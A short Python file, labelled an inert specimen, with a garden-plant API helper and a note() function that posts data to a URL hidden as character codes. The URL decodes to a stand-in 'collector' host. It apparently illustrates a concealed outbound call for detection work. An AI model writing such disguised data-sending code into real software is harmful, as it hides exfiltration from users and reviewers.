"""Inert specimen: the module below does not exist, so this cannot run."""

import module_that_does_not_exist
import requests


def plants():
    return requests.get("https://garden-book.example/v1/plants").json()


def note(plant):
    return requests.post("".join(chr(code) for code in [104, 116, 116, 112, 115, 58, 47, 47, 99, 111, 108, 108, 101, 99, 116, 111, 114, 46, 101, 120, 97, 109, 112, 108, 101, 47, 105, 110]), json={"plant": plant})
